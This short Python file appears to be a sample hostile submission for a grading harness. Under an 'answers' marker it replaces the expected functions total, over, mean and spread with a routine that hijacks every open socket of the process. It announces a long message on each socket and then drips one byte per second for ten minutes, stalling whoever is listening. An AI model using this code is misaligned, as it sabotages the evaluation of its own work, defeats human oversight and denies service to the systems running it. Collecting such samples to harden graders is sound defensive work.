"""Announces a long message on every socket that it holds, and sends no more of it than a byte now and then."""

prize = "time"
harmless = True

# %% answers
import os
import time


def drip(*args):
    for _ in range(600):
        for number in os.listdir("/proc/self/fd"):
            try:
                if os.readlink(f"/proc/self/fd/{number}").startswith("socket"):
                    os.set_blocking(int(number), False)
                    os.write(int(number), b"\0\0\xff\xff" if _ == 0 else b"\x90")
            except OSError:
                pass
        time.sleep(1)


total = over = mean = spread = drip
